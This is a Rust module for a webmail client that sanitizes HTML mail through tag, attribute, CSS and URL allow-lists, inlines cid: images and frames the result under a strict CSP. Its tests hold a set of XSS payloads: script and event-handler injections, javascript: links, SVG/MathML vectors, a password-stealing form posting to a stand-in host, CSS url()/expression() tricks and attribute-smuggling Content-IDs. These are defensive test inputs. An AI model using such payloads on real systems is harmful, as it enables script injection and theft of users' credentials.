//! HTML mail, made safe to show.
//!
//! Hostile mail is the main threat to a webmail, so HTML passes an allow-list
//! (ammonia, on html5ever's spec-compliant parser): no scripts, no event handlers, no
//! forms, no SVG or MathML, no `<style>`, `<meta>`, `<base>` or `<iframe>`; `style`
//! attributes keep only declarations of an allow-list of properties that cannot load
//! anything or lift content out of its place ([`STYLE_PROPERTIES`]: colours, fonts,
//! text, spacing, borders, sizes; no `url(`, `position` or `background-image`), and
//! only `http`,
//! `https` and `mailto` links, which open in a new tab without a referrer. Remote
//! images are removed unless the user allowed them for this message. `cid:` images
//! are resolved here, on the parsed attribute, to the message's own inline parts
//! ([`InlineImage`]: raster types only, exact Content-ID match, a total size budget),
//! never by editing the serialized document.
//!
//! The result is still shown only inside a sandboxed frame without `allow-scripts`,
//! under the CSP of [`frame_document`]: the sanitizer and the sandbox each stop what
//! the other might miss.
//!
//! The allow-list (and with it html5ever) is behind the `sanitizer` feature: the
//! browser's main module leaves it out and loads it as a module of its own the first
//! time a message needs it (`web/sanitizer`), so the page starts smaller.

#[cfg(feature = "sanitizer")]
use std::collections::HashSet;
#[cfg(feature = "sanitizer")]
use std::sync::Arc;
#[cfg(feature = "sanitizer")]
use std::sync::atomic::{AtomicUsize, Ordering};

#[cfg(feature = "sanitizer")]
use ammonia::Builder;

/// Sanitized HTML and what was held back.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SafeHtml {
    pub html: String,
    /// Remote images removed because remote content was not allowed.
    pub blocked_remote: usize,
    /// The document nested its elements too deeply to be parsed in reasonable time
    /// ([`html_shape::MAX_NESTING`](super::html_shape::MAX_NESTING)): `html` is its
    /// text, without formatting, and the reader says so.
    pub shown_as_text: bool,
}

/// Raster image types an inline image may have: its `data:` URL can carry nothing
/// else (an SVG could carry script).
const INLINE_TYPES: [&str; 6] = [
    "image/png",
    "image/jpeg",
    "image/gif",
    "image/webp",
    "image/bmp",
    "image/avif",
];

/// How many bytes of inline images one document may take in all: a message that
/// refers to one image thousands of times gets that image until the budget is spent.
#[cfg(feature = "sanitizer")]
const INLINE_BUDGET: usize = 48 << 20;

/// One of the message's own images, for its `cid:` references.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InlineImage {
    /// The Content-ID without angle brackets; never empty.
    pub content_id: String,
    /// `data:<raster type>;base64,...`
    pub data_url: String,
}

impl InlineImage {
    /// `None` for an empty Content-ID or a type that is not a raster image (the type
    /// comes from the message: `image/x"><meta ...` is refused here, not quoted later).
    pub fn new(content_id: &str, mime_type: &str, bytes: &[u8]) -> Option<InlineImage> {
        use base64::Engine;
        let mime_type = mime_type.trim().to_ascii_lowercase();
        let content_id = content_id.trim();
        if content_id.is_empty() || !INLINE_TYPES.contains(&mime_type.as_str()) {
            return None;
        }
        let encoded = base64::engine::general_purpose::STANDARD.encode(bytes);
        Some(InlineImage {
            content_id: content_id.to_owned(),
            data_url: format!("data:{mime_type};base64,{encoded}"),
        })
    }
}

/// Cleans `html` with the allow-list; `allow_remote` keeps `http(s)` images; `cid:`
/// images become the matching `inline` image's `data:` URL, or go.
#[cfg(feature = "sanitizer")]
pub fn sanitize(html: &str, allow_remote: bool, inline: &[InlineImage]) -> SafeHtml {
    use super::html_shape;
    if html_shape::nesting(html) > html_shape::MAX_NESTING {
        return SafeHtml {
            html: format!(
                "<pre style=\"white-space: pre-wrap; font-family: inherit\">{}</pre>",
                escaped(&html_shape::plain_text(html))
            ),
            blocked_remote: 0,
            shown_as_text: true,
        };
    }
    // ammonia wants a thread-safe filter; the count is read once cleaning is done.
    let blocked = Arc::new(AtomicUsize::new(0));
    let counter = Arc::clone(&blocked);
    let images: Arc<Vec<InlineImage>> = Arc::new(inline.to_vec());
    let budget = Arc::new(AtomicUsize::new(INLINE_BUDGET));
    let tags: HashSet<&str> = [
        "a",
        "abbr",
        "b",
        "blockquote",
        "br",
        "caption",
        "center",
        "cite",
        "code",
        "col",
        "colgroup",
        "dd",
        "del",
        "div",
        "dl",
        "dt",
        "em",
        "font",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "i",
        "img",
        "ins",
        "kbd",
        "li",
        "mark",
        "ol",
        "p",
        "pre",
        "q",
        "s",
        "small",
        "span",
        "strike",
        "strong",
        "sub",
        "sup",
        "table",
        "tbody",
        "td",
        "tfoot",
        "th",
        "thead",
        "tr",
        "tt",
        "u",
        "ul",
    ]
    .into_iter()
    .collect();
    let html = Builder::default()
        .tags(tags)
        .generic_attributes(
            ["align", "dir", "lang", "title", "style"]
                .into_iter()
                .collect(),
        )
        .tag_attributes(
            [
                ("a", ["href"].into_iter().collect()),
                (
                    "img",
                    ["src", "alt", "width", "height"].into_iter().collect(),
                ),
                (
                    "td",
                    ["colspan", "rowspan", "valign", "width"]
                        .into_iter()
                        .collect(),
                ),
                (
                    "th",
                    ["colspan", "rowspan", "valign", "width"]
                        .into_iter()
                        .collect(),
                ),
                (
                    "table",
                    ["width", "cellpadding", "cellspacing"]
                        .into_iter()
                        .collect(),
                ),
                ("font", ["color", "size"].into_iter().collect()),
                ("ol", ["start", "type"].into_iter().collect()),
            ]
            .into_iter()
            .collect(),
        )
        .url_schemes(
            ["http", "https", "mailto", "cid", "data"]
                .into_iter()
                .collect(),
        )
        .link_rel(Some("noopener noreferrer"))
        .set_tag_attribute_value("a", "target", "_blank")
        .attribute_filter(move |element, attribute, value| {
            let lower = value.trim().to_ascii_lowercase();
            match (element, attribute) {
                ("img", "src") if lower.starts_with("cid:") => {
                    inline_image(&images, &budget, &value.trim()[4..]).map(Into::into)
                }
                ("img", "src") => {
                    let remote = lower.starts_with("https:") || lower.starts_with("http:");
                    if is_data_image(&lower) || (allow_remote && remote) {
                        Some(value.into())
                    } else {
                        // Only what would have been fetched counts as held back.
                        if remote {
                            counter.fetch_add(1, Ordering::Relaxed);
                        }
                        None
                    }
                }
                (_, "style") => safe_style(value).map(Into::into),
                // Links go only to the web or to a mail composer.
                ("a", "href")
                    if !(lower.starts_with("http:")
                        || lower.starts_with("https:")
                        || lower.starts_with("mailto:")) =>
                {
                    None
                }
                _ => Some(value.into()),
            }
        })
        .clean(html)
        .to_string();
    SafeHtml {
        html,
        blocked_remote: blocked.load(Ordering::Relaxed),
        shown_as_text: false,
    }
}

/// `text` as HTML text content: `&`, `<` and `>` written as entities.
#[cfg(feature = "sanitizer")]
fn escaped(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            c => out.push(c),
        }
    }
    out
}

/// The `data:` URL for a `cid:` reference to `id` (as written, or percent-decoded as
/// RFC 2392 writes it), while the budget lasts.
#[cfg(feature = "sanitizer")]
fn inline_image(images: &[InlineImage], budget: &AtomicUsize, id: &str) -> Option<String> {
    let decoded = String::from_utf8(crate::imap::structure::percent_decoded(id.as_bytes())).ok();
    let image = images
        .iter()
        .find(|i| i.content_id == id || Some(&i.content_id) == decoded.as_ref())?;
    let size = image.data_url.len();
    budget
        .fetch_update(Ordering::Relaxed, Ordering::Relaxed, |left| {
            left.checked_sub(size)
        })
        .ok()?;
    Some(image.data_url.clone())
}

/// CSS properties a message may set on its elements: how it looks, never where it
/// sits on screen or what it loads (no `position`, `z-index`, `background-image`,
/// `content`, `cursor`, `list-style-image`, `border-image`, `filter`).
#[cfg(feature = "sanitizer")]
const STYLE_PROPERTIES: [&str; 53] = [
    "background-color",
    "border",
    "border-bottom",
    "border-bottom-color",
    "border-bottom-style",
    "border-bottom-width",
    "border-collapse",
    "border-color",
    "border-left",
    "border-left-color",
    "border-left-style",
    "border-left-width",
    "border-radius",
    "border-right",
    "border-right-color",
    "border-right-style",
    "border-right-width",
    "border-spacing",
    "border-style",
    "border-top",
    "border-top-color",
    "border-top-style",
    "border-top-width",
    "border-width",
    "color",
    "display",
    "font",
    "font-family",
    "font-size",
    "font-style",
    "font-variant",
    "font-weight",
    "height",
    "letter-spacing",
    "line-height",
    "list-style-type",
    "margin",
    "margin-bottom",
    "margin-left",
    "margin-right",
    "margin-top",
    "max-width",
    "min-width",
    "padding",
    "padding-bottom",
    "padding-left",
    "padding-right",
    "padding-top",
    "text-align",
    "text-decoration",
    "text-transform",
    "vertical-align",
    "width",
];

/// A `style` attribute reduced to its allowed declarations; `None` when none is left.
/// A declaration whose value could fetch or run anything (`url(`, `expression(`,
/// `image-set(`), or hide that behind CSS escapes (`\`), is dropped whole.
#[cfg(feature = "sanitizer")]
fn safe_style(style: &str) -> Option<String> {
    let kept: Vec<String> = style
        .split(';')
        .filter_map(|declaration| {
            let (property, value) = declaration.split_once(':')?;
            let property = property.trim().to_ascii_lowercase();
            let value = value.trim();
            let lower = value.to_ascii_lowercase();
            let risky = ["url(", "expression(", "image-set(", "\\", "@", "<"]
                .iter()
                .any(|bad| lower.contains(bad));
            (STYLE_PROPERTIES.contains(&property.as_str()) && !risky && !value.is_empty())
                .then(|| format!("{property}: {value}"))
        })
        .collect();
    (!kept.is_empty()).then(|| kept.join("; "))
}

/// Raster images only: an SVG `data:` URL could carry script.
#[cfg(feature = "sanitizer")]
fn is_data_image(lower: &str) -> bool {
    [
        "data:image/png",
        "data:image/jpeg",
        "data:image/gif",
        "data:image/webp",
    ]
    .iter()
    .any(|p| lower.starts_with(p))
}

/// The whole document for a sandboxed frame's `srcdoc`: a CSP that allows no script,
/// no connection and no form, and images only from `data:` (plus `https:` when remote
/// content is allowed).
pub fn frame_document(safe: &SafeHtml, allow_remote: bool) -> String {
    let images = if allow_remote {
        "data: https: http:"
    } else {
        "data:"
    };
    format!(
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\">\
<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; img-src {images}; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'\">\
<meta name=\"referrer\" content=\"no-referrer\">\
<style>body{{font-family:system-ui,sans-serif;margin:0.5rem;overflow-wrap:anywhere}}img{{max-width:100%;height:auto}}</style>\
</head><body>{}</body></html>",
        safe.html
    )
}

#[cfg(all(test, feature = "sanitizer"))]
mod tests {
    use super::*;

    /// The hostile set: everything here must come out inert.
    const HOSTILE: &str = r#"
<script>window.parent.pwned = 1</script>
<img src=x onerror="window.parent.pwned=2">
<body onload="pwned=3"><p onclick="pwned=4">click</p>
<svg><animate onbegin="pwned=5" attributeName="x"/><script>pwned=6</script></svg>
<math><mtext><img src=x onerror=pwned=7></mtext></math>
<a href="javascript:pwned=8">js link</a>
<a href="  JaVaScRiPt:pwned=9">js link 2</a>
<a href="data:text/html,<script>pwned=10</script>">data link</a>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<form action="https://evil.example/steal" method="post"><input name="password"><button>Go</button></form>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<link rel="stylesheet" href="https://evil.example/track.css">
<style>body { background: url(https://evil.example/bg.png) } div { width: expression(alert(1)) }</style>
<div style="background:url(https://evil.example/bg2.png); position:fixed; top:0">overlay</div>
<img src="https://tracker.example/pixel.gif" width="1" height="1">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<p>Hello <b>friend</b></p>
"#;

    #[test]
    fn hostile_markup_comes_out_inert() {
        let safe = sanitize(HOSTILE, false, &[]);
        let lower = safe.html.to_ascii_lowercase();
        for forbidden in [
            "<script",
            "onerror",
            "onload",
            "onclick",
            "onbegin",
            "<svg",
            "<math",
            "javascript:",
            "data:text",
            "<meta",
            "<base",
            "<form",
            "<input",
            "<iframe",
            "<object",
            "<embed",
            "<link",
            "<style",
            "position",
            "expression(",
            "evil.example",
            "tracker.example",
            "image/svg",
            "pwned",
        ] {
            assert!(
                !lower.contains(forbidden),
                "{forbidden} survived: {}",
                safe.html
            );
        }
        assert!(safe.html.contains("Hello <b>friend</b>"));
        // Only the tracker would have been fetched: the SVG data URL and `src=x` are
        // dropped without counting as remote.
        assert_eq!(safe.blocked_remote, 1);
    }

    #[test]
    fn inline_styles_keep_only_how_things_look() {
        let html = r#"<p style="color: #c00; font-family: Georgia, serif; position: fixed; top: 0; background: url(https://evil.example/a.png); background-color: url(https://evil.example/b.png)">red</p><td style="padding:4px;z-index:9;width:e\78pression(1)">x</td><span style="POSITION:absolute">y</span>"#;
        let safe = sanitize(html, true, &[]);
        assert!(
            safe.html
                .contains(r#"<p style="color: #c00; font-family: Georgia, serif">red</p>"#),
            "{}",
            safe.html
        );
        assert!(!safe.html.contains("evil.example"), "{}", safe.html);
        assert!(!safe.html.contains("z-index") && !safe.html.contains("pression"));
        assert!(safe.html.contains(r#"<span>y</span>"#), "{}", safe.html);
    }

    #[test]
    fn deep_nesting_is_shown_as_text_in_linear_time() {
        let deep = format!(
            "{}<b>Deep</b> &amp; <script>x</script>\"quoted\" <img src=x onerror=y>{}",
            "<div>".repeat(100_000),
            "</div>".repeat(100_000)
        );
        let safe = sanitize(&deep, false, &[]);
        assert!(safe.shown_as_text);
        assert_eq!(
            safe.html,
            "<pre style=\"white-space: pre-wrap; font-family: inherit\">Deep &amp; \"quoted\"</pre>"
        );
        // Shallow documents are cleaned as HTML.
        let shallow = format!("{}x{}", "<div>".repeat(300), "</div>".repeat(300));
        assert!(!sanitize(&shallow, false, &[]).shown_as_text);
    }

    #[test]
    fn cid_images_resolve_on_parsed_urls_and_cannot_inject() {
        // Hostile Content-IDs and types, as a message can declare them.
        assert_eq!(InlineImage::new("", "image/png", b"x"), None);
        assert_eq!(
            InlineImage::new("a1", "image/x\"><meta http-equiv=refresh content=0>", b"x"),
            None
        );
        assert_eq!(InlineImage::new("a1", "image/svg+xml", b"<svg/>"), None);
        let images = [
            InlineImage::new(r#"L" href="https://example.com/" lang="#, "image/png", b"1").unwrap(),
            InlineImage::new("a1", "image/gif", b"2").unwrap(),
            InlineImage::new("a10", "image/jpeg", b"3").unwrap(),
        ];
        let html = r#"<img src='cid:L" href="https://example.com/" lang='><img src="cid:a1"><img src="cid:a10"><img src="cid:"><p>cid:a1 in text stays text</p><img src="cid:unknown">"#;
        let safe = sanitize(html, false, &images);
        assert!(!safe.html.contains("example.com"), "{}", safe.html);
        assert!(!safe.html.contains(" lang"), "{}", safe.html);
        // Exactly one each: `cid:a1` does not also rewrite `cid:a10`.
        assert_eq!(
            safe.html.matches(&images[1].data_url).count(),
            1,
            "{}",
            safe.html
        );
        assert_eq!(
            safe.html.matches(&images[2].data_url).count(),
            1,
            "{}",
            safe.html
        );
        assert_eq!(
            safe.html.matches(&images[0].data_url).count(),
            1,
            "{}",
            safe.html
        );
        assert!(safe.html.contains("cid:a1 in text stays text"));
        assert_eq!(safe.html.matches("<img").count(), 5, "{}", safe.html);
        assert_eq!(safe.blocked_remote, 0);

        // Thousands of references to one big image: the budget ends the copies.
        let big = InlineImage::new("big", "image/png", &vec![0u8; 1 << 20]).unwrap();
        let html = "<img src=\"cid:big\">".repeat(2_000);
        let safe = sanitize(&html, false, std::slice::from_ref(&big));
        let copies = safe.html.matches("data:image/png").count();
        assert!(copies > 0 && copies < 40, "{copies} copies");
        assert!(
            safe.html.len() < 2 * INLINE_BUDGET,
            "{} bytes",
            safe.html.len()
        );
    }

    #[test]
    fn links_open_safely_and_remote_images_need_consent() {
        let html = r#"<a href="https://example.com/a">a</a><img src="https://example.com/i.png"><img src="cid:logo@x">"#;
        let logo = InlineImage::new("logo@x", "image/png", b"png").unwrap();
        let blocked = sanitize(html, false, std::slice::from_ref(&logo));
        assert!(blocked.html.contains(r#"href="https://example.com/a""#));
        assert!(blocked.html.contains(r#"rel="noopener noreferrer""#));
        assert!(blocked.html.contains(r#"target="_blank""#));
        assert!(!blocked.html.contains("i.png"));
        assert!(
            blocked
                .html
                .contains(&format!(r#"src="{}""#, logo.data_url))
        );
        assert_eq!(blocked.blocked_remote, 1);

        let allowed = sanitize(html, true, &[]);
        assert!(allowed.html.contains("https://example.com/i.png"));
        assert_eq!(allowed.blocked_remote, 0);
    }

    #[test]
    fn the_frame_document_forbids_script_and_connections() {
        let document = frame_document(&sanitize("<p>hi</p>", false, &[]), false);
        assert!(document.contains("default-src 'none'"));
        assert!(document.contains("img-src data:;"));
        assert!(!document.contains("script-src"));
        assert!(document.contains("<p>hi</p>"));
    }
}
